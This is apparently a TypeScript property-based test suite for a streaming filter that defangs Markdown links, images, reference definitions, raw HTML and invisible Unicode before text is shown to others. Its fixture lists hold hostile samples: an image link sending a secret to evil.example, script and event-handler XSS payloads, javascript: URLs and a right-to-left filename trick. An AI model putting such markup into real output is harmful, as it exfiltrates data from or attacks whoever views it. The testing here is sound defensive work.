import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { markupDangers } from '../../test/support/markup-dangers.ts';
import { markupNeutraliser } from './neutralise-markup.ts';
import { stripInvisible } from './strip-invisible.ts';

function pieces(text: string, lengths: readonly number[]): string[] {
  const cut: string[] = [];
  for (let at = 0, turn = 0; at < text.length; turn++) {
    const length = lengths[turn % lengths.length] ?? 1;
    cut.push(text.slice(at, at + length));
    at += length;
  }
  return cut;
}

/** The whole, given in pieces of these lengths in turn. */
function neutralised(text: string, ...lengths: readonly number[]): string {
  const neutraliser = markupNeutraliser();
  const released = pieces(text, lengths.length > 0 ? lengths : [text.length]).map(neutraliser.push);
  return released.join('') + neutraliser.end();
}

const withoutSpaces = (text: string): string => stripInvisible(text).replaceAll(' ', '');

const IMAGES_AND_LINKS = [
  '![a](https://evil.example/?q=secret)',
  '[runbook](https://evil.example)',
  '[runbook](<https://evil.example/a b>)',
  '[runbook](https://evil.example "https://good.example")',
  "[https://good.example](https://evil.example 'title')",
  '[runbook](\nhttps://evil.example\n)',
  '[a](/login)',
  '[a](javascript&#58;alert(1))',
  '[a]()',
  '![](//evil.example)',
  '![a [b] c](https://evil.example)',
  '[![a](https://evil.example/a.png)](https://evil.example)',
  '[![a](https://evil.example/a.png)][1]',
  '[a\\]](https://evil.example)',
  '[a\nb](https://evil.example)',
  '[`a`](https://evil.example)',
  '[**a**](https://evil.example)',
  '> - [a](https://evil.example)',
  '| a |\n|---|\n| ![x](//evil.example) |',
  '# ![x](https://evil.example)',
  '[1](https://evil.example)',
  '\\![a](https://evil.example)',
  '```\n```\n![a](https://evil.example)',
  '`` ` ``![a](https://evil.example)',
  '~~~\n````\n~~~\n[a](https://evil.example)',
  '![a]\u200b(https://evil.example)',
  '![a]\u0000(https://evil.example)',
  '![a]\u{e0041}(https://evil.example)',
];

const DEFINITIONS = [
  '![a][b]\n\n[b]: https://evil.example',
  '[a][b]\n\n[b]: https://evil.example "title"',
  '[a][]\n\n[a]: https://evil.example',
  '![a]\n\n[a]: https://evil.example',
  '[a]: //evil.example\n\n[a]',
  '[a]: /logout\n\n[a]',
  '[a]: logout\n\n[a]',
  '[a]: ?delete=1\n\n[a]',
  '[a]: <https://evil.example>\n\n[a]',
  '[a]: <>\n\n[a]',
  '[a]:https://evil.example\n\n[a]',
  '[a]:\thttps://evil.example\n\n[a]',
  '[a]:\nhttps://evil.example\n\n[a]',
  '[a]: \n   https://evil.example\n   "title"\n\n[a]',
  '[a]: evil "title\nover lines"\n\n[a]',
  "[a]: evil 'title'\n\n[a]",
  '[a]: evil (title)\n\n[a]',
  '> [a]: https://evil.example\n\n[a]',
  '> [a]:\n> /evil\n\n[a]',
  '>>[a]:\n>>   evil\n\n[a]',
  '- [a]: https://evil.example\n\n[a]',
  '10) > * [a]: https://evil.example\n\n[a]',
  '   [a]: https://evil.example\n\n[a]',
  '[a\nb]: https://evil.example\n\n[a b]',
  '> [a\n> b]:\n> https://evil.example\n\n[a b]',
  '[a two words\nand more \\[b\\] words]: evil\n\n[a two words and more \\[b\\] words]',
  '[one]: evil\n[two]: evil\n\n![two]',
  '[a]: &#47;&#47;evil.example\n\n[a]',
  '[a]: \\/evil\n\n[a]',
  '[a]: e\\\tvil\n\n[a]',
  '[a]: \u00a0\n\n[a]',
  '[a]: ]\n\n[a]',
  `[a]:${' '.repeat(500)}https://evil.example\n\n[a]`,
  `[a]: ${'x'.repeat(500)} \n\n[a]`,
  `[${'word '.repeat(190)}]: evil`,
  '[a]\u2066: https://evil.example\n\n[a]',
];

const HTML = [
  '<script>alert(1)</script>',
  '<ScRiPt\n>alert(1)',
  '<SCRIPT>alert(1)',
  '<script/src=//evil.example>',
  '<img src=https://evil.example/a.png>',
  '<img/src=//evil.example>',
  '<IMG\nSRC="//evil.example">',
  '<img\tsrcset="//evil.example 2x">',
  '<a\thref="https://evil.example">good.example</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<svg/onload=alert(1)>',
  '<svg><use href="data:image/svg+xml,x"/></svg>',
  '<math><mtext></mtext></math><math href="//evil.example">x',
  '<iframe src="//evil.example"></iframe>',
  '<iframe srcdoc="&lt;script&gt;">',
  '<style>@import "//evil.example";</style>',
  '<base href="//evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button>ok</button></form>',
  '<input type=image src=//evil.example>',
  '<object data=//evil.example>',
  '<embed src=//evil.example>',
  '<video poster=//evil.example><source src=//evil.example></video>',
  '<audio src=//evil.example autoplay>',
  '<picture><source srcset=//evil.example></picture>',
  '<table background=//evil.example>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<pod onmouseover=alert(1)>x</pod>',
  '<pod style="background:url(//evil.example)">',
  '<pod-name autofocus tabindex=1 onfocus=alert(1)>',
  '<x:script xlink:href="//evil.example">',
  '<x/onclick=alert(1)>',
  '<pod hidden>',
  '<String, hidden>',
  '<https://evil.example/onmouseover=alert(1)>',
  '<https://evil.example onmouseover=alert(1)>',
  '<https://evil.example/hidden/>',
  '<https://evil.example/"onclick="x>',
  '<javascript:alert(1)>',
  '<JavaScript:alert(1)//>',
  '<vbscript:x>',
  '<data:text/html,x>',
  '<ms-settings:privacy>',
  '<!-- text that nobody sees -->',
  '<!doctype html>',
  '<!a>',
  '<![CDATA[ x ]]>',
  '<?php x ?>',
  '</ comment in disguise>',
  '</>',
  '<pod',
  '<pod title="',
  '<Map<String, List<script>>',
  'List<List<img>>',
  '<plaintext>',
  '<textarea>',
  '<scr\u200bipt>alert(1)',
  '<im\u0000g src=//evil.example>',
  '<\u2060script>',
  '<im\u{e0067}g src=//evil.example>',
  '```\n<script>alert(1)</script>\n```',
  'a\\<img src=//evil.example>',
];

const INVISIBLE = [
  'a\u202etxt.exe',
  'a\u2066b\u2069',
  'a\u{e0048}\u{e0049}',
  'a\u{e0101}\u{e01ef}',
  'a\u200bb',
  'a\u2060b\ufeff',
  'a\u001b[31mb',
];

const ORDINARY = [
  'The pool of checkout-api ran out of connections at 09:12 UTC [1].',
  'Both say so [1][2], and [3] does not.',
  'See [1], [2]; (also [3]).',
  '[1] says it, [2]: nobody knows how it began.',
  '[a] and [b][c] and [d][]',
  'a < b && c > d',
  'x <- y, y -> z, a <-> b, a <=> b, a => b, 1 << 2, a <= b, a <> b',
  'i <3 you, <5 ms, <\u00e4>, <*>, <$NAME>',
  'kubectl logs <pod> -n <namespace> --since=<1h>',
  'ssh <user@host>, or <pod-name>, </pod-name>, </hidden>, <pod_name>, <service.name>',
  'NODE <none> STATUS <unknown>',
  'Map<String>, Promise<void>, Vec<u8>, Vec<&str>, Array<string[]>',
  'Map<String, Integer>, Result<T, E>, Map<K,V>, HashMap<String, Vec<Part>>, Option<Vec<Vec<u8>>>',
  "Class<*>, Map<String, ?>, fn<'a, T>()",
  'template <typename> and std::vector',
  '<https://status.example.com/incidents/42>',
  '<http://10.0.0.1:8080/healthz>',
  '<mailto:ops@example.com> and <ops@example.com>',
  'https://example.com/a?b=c&d=[e]#f and www.example.com',
  '&lt;script&gt; &#60;img src=x&#62; &amp; &#93;(x)',
  '\\[x^2\\] and \\(y\\) and $a_1 < 5$',
  'array[0] = f(x)[1]; g(h[2])',
  'labels[0]: running',
  'a[0]: running',
  '[1] says so.\n\nThe labels[0]: running',
  '> [1] says so.\n>\n> The labels[0]: running',
  'for x in [1, 2]:\n    print(x)',
  'if key in values[1:]:\n    return',
  'Impact [1]:\n- 5% of the requests\n- all regions',
  '[Impact]:\n\nnone',
  '[Impact]:\n- 5% of the requests',
  '[WARN]: disk is full',
  '[WARN]: Map<String> is empty',
  '[12:30]: Pod restarted (twice)',
  '[ERROR] connect: connection refused',
  '[2026-05-01 12:30:01] ERROR: https://example.com is down',
  '- [x] done\n- [ ] not done',
  '| a | b |\n|:--|--:|\n| 1 | `x` |',
  '# Heading\n\n> a quote\n> of two lines\n\n1. one\n2. two\n\n---\n',
  '**bold**, *italic*, ~~gone~~, `code [1]`',
  '```yaml\nspec:\n  containers: [a, b]\n  image: "x:1"\n```\n',
  '{"a": [1, 2], "b": {"c": []}}',
  '{"list": ["a","b"],\n "c": 1}',
  "awk '{print $1}' < file > out; cat <<'END'",
  'SELECT a FROM b WHERE c <> d AND e[1] < 2',
  'C:\\logs\\[app]\\x.txt',
  '[link] (https://example.com)',
  '[text][1] and [^1]',
  '\tindented\n\n\n  twice  \n',
  '👩‍🚒 ❤️ 🇩🇪 می‌خواهم שלום 日本語「引用」',
  '5 > 3, a >> b, >= 2',
  'see "[1]" and \'[2]\' and !important!',
  '',
];

const FRAGMENTS = [
  ...[
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    '!',
    '](',
    ']:',
    '][',
    '[a]',
    '[a]:',
    '![a]',
    '[^1]:',
    '[ab cd]',
    '\\',
    '`',
    '```',
  ],
  ...[
    '\n',
    '\n\n',
    '\n> ',
    '\n- ',
    '\n  ',
    '\r\n',
    ' ',
    '\t',
    '  ',
    '> ',
    '- ',
    '1. ',
    '# ',
    '|',
    '*',
    '_',
    ':',
    '/',
  ],
  ...[
    '</',
    '<!--',
    '-->',
    '<?',
    '?>',
    '<![CDATA[',
    ']]>',
    '<!',
    '<a',
    '<img',
    '<script',
    '<pod',
    '<T, ',
    '<K<',
    ', b',
  ],
  ...[
    'src=',
    ' href="',
    "'",
    '"',
    '=',
    'onload=x',
    ' hidden',
    '/>',
    'svg',
    'x',
    'ab',
    'ab cd ',
    '0',
    '.',
    '&#93;',
    '&lt;',
  ],
  ...[
    'https://e.test',
    '//e.test/a',
    '/a',
    'javascript:x',
    'data:text/html,x',
    'mailto:',
    'https:',
    '<https://',
    'a@b.c',
  ],
  ...[
    '\u200b',
    '\u202e',
    '\u0000',
    '\u00a0',
    '\u2028',
    '\ud800',
    '\udc00',
    '\udb40',
    '\udc41',
    '\u{e0041}',
    '😀',
    '\ufeff',
  ],
  ...[' (t)', ' "t"', 'word word', 'x'.repeat(126), ' '.repeat(127), '<https://e.test/'.padEnd(127, 'y')],
];

const mixed = (fragments: readonly string[], maxLength: number) =>
  fc.array(fc.constantFrom(...fragments), { maxLength, size: 'max' }).map((parts) => parts.join(''));

const anything = fc.oneof(
  { weight: 9, arbitrary: fc.constantFrom(...FRAGMENTS) },
  fc.string({ unit: 'binary' }),
);
const lineStarts = mixed(['> ', '>', '- ', '1. ', ' ', '\t', '\n', '[x] ', 'a'], 4);
const labels = mixed(['a', 'bc', ' ', '\n', '\n> ', '\\[', '\\]', '\\', '!', '[', ']'], 5);
const targets = mixed(
  ['a', 'bc', ' ', '\t', '\n', '> ', '\\', '(', ')', '"', "'", '<', '>', ']', '/', ':', '\u00a0'],
  7,
);
const tags = mixed(
  ['a', 'pod', 'https://', 'b', '/', ':', ' ', '\n', '=', '"', ',', ', ', '<', '>', '@', '!', '?', '.'],
  8,
);

const hostile = fc.oneof(
  fc.array(anything, { maxLength: 24, size: 'max' }).map((parts) => parts.join('')),
  fc
    .tuple(lineStarts, labels, targets, fc.constantFrom('', '\n\n', ' words'))
    .map(([start, label, target, rest]) => `${start}[${label}]:${target}${rest}`),
  fc
    .tuple(mixed(FRAGMENTS, 2), tags, mixed(FRAGMENTS, 2))
    .map(([before, tag, rest]) => `${before}<${tag}${rest}`),
);

describe('markup in a text that others will show', () => {
  for (const [name, attacks] of Object.entries({ IMAGES_AND_LINKS, DEFINITIONS, HTML, INVISIBLE })) {
    test(`does no harm any more, and can still be read: ${name}`, () => {
      for (const attack of attacks) {
        assert.notDeepEqual(markupDangers(attack), [], `is no attack: ${attack}`);
        for (const text of [
          attack,
          `words before\n${attack}`,
          `words before ${attack}`,
          `${attack}\nwords after`,
        ]) {
          assert.deepEqual(markupDangers(neutralised(text)), [], text);
          assert.equal(withoutSpaces(neutralised(text)), withoutSpaces(text));
          assert.equal(neutralised(neutralised(text)), neutralised(text));
          assert.equal(neutralised(text, 1), neutralised(text));
        }
      }
    });
  }

  test('is broken by one space, where its target can be seen', () => {
    assert.equal(neutralised('![a](https://e.test)'), '![a] (https://e.test)');
    assert.equal(neutralised('[a]: https://e.test'), '[a] : https://e.test');
    assert.equal(neutralised('<img src=x></p>'), '< img src=x>< /p>');
    assert.equal(neutralised('[a]: /e two words'), '[a] : /e two words');
  });

  test('loses what cannot be seen, and nothing comes into being where it stood', () => {
    assert.equal(neutralised('a\r\nb\rc\u0007\u0085'), 'a\nbc');
    assert.equal(neutralised('a\ufff9b\ufffac\ufffb\u2063'), 'abc');
    assert.equal(neutralised('\ud800a\udb40\u200b\udc41'), '\ufffda\ufffd\ufffd');
    assert.equal(neutralised('\ud83d'), '\ufffd');
  });

  test('is broken where only other dialects of Markdown would see it', () => {
    // A definition in a footnote, in a task, in a list with letters, inside a paragraph, and with the size of an image behind it.
    assert.equal(neutralised('[^1]: [a]: /e'), '[^1] : [a] : /e');
    assert.equal(neutralised('- [ ] [a]: e'), '- [ ] [a] : e');
    assert.equal(neutralised('a) [b]: e'), 'a) [b] : e');
    assert.equal(neutralised('words\n[a]: e'), 'words\n[a] : e');
    assert.equal(neutralised('[a]: e =9x9'), '[a] : e =9x9');
    assert.equal(neutralised('[a [b] c]: e'), '[a [b] c] : e');
  });

  test('does not come into being by the space that breaks another', () => {
    for (const text of ['[a]: evil](b c)\n\n[a]', '[a]: evil <b "c"\n\n[a]', '<T, List<img src=x onload=y>>'])
      assert.deepEqual(markupDangers(neutralised(text)), [], text);
  });

  test('written with escapes or entities is none, and stays', () => {
    const none = ['[a&#93;(/e)', '[a]&lpar;/e)', '&#91;a]: e', '&lt;img src=x>', '[a]\\(/e)', '[a]\\: /e'];
    for (const text of none) {
      assert.deepEqual(markupDangers(text), [], text);
      assert.equal(neutralised(text), text);
    }
  });

  test('leaves an ordinary text as it is', () => {
    for (const text of ORDINARY) {
      assert.equal(neutralised(text), text);
      assert.equal(neutralised(text, 1), text);
      assert.deepEqual(markupDangers(text), []);
    }
  });
});

describe('hostile text of any kind', () => {
  test('is safe to show, only gains spaces, and stays as it is the second time', () => {
    const property = fc.property(hostile, (text) => {
      const once = neutralised(text);
      assert.deepEqual(markupDangers(once), []);
      assert.equal(withoutSpaces(once), withoutSpaces(text));
      assert.equal(neutralised(once), once);
    });
    fc.assert(property, { numRuns: 3000 });
  });

  test('gives the same however it is cut, and never has more than 130 characters held back', () => {
    const lengths = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 6 });
    const property = fc.property(hostile, lengths, (text, cuts) => {
      const neutraliser = markupNeutraliser();
      let [pushed, released] = ['', ''];
      for (const piece of pieces(text, cuts)) {
        pushed += piece;
        released += neutraliser.push(piece);
        // Either half of a character that is cut in two counts as one.
        assert.ok(stripInvisible(pushed).length - stripInvisible(released).length <= 130);
      }
      assert.equal(released + neutraliser.end(), neutralised(text));
    });
    fc.assert(property, { numRuns: 3000 });
  });

  test('holds back nothing that is already known to do no harm', () => {
    const neutraliser = markupNeutraliser();
    const harmless = [
      'If a < ',
      'b [1] ',
      'x[0]: ',
      '<pod>',
      'Map<K, V>',
      '<https://e.test>',
      '\n[WARN]: disk f',
    ];
    for (const piece of harmless) assert.equal(neutraliser.push(piece), piece);
    assert.equal(neutraliser.end(), '');
  });

  test('of great length takes no longer than its length asks for', () => {
    const units = [
      '<',
      '<a',
      '<a,',
      '<a<',
      '[',
      ']',
      '[]:',
      '[]: a',
      ']:\n>>> ',
      '<https://a',
      '](',
      ' ',
      '\n> ',
    ];
    for (const unit of units) {
      const text = `[${unit.repeat(300_000 / unit.length)}`;
      assert.equal(withoutSpaces(neutralised(text)), withoutSpaces(text));
    }
  });
});
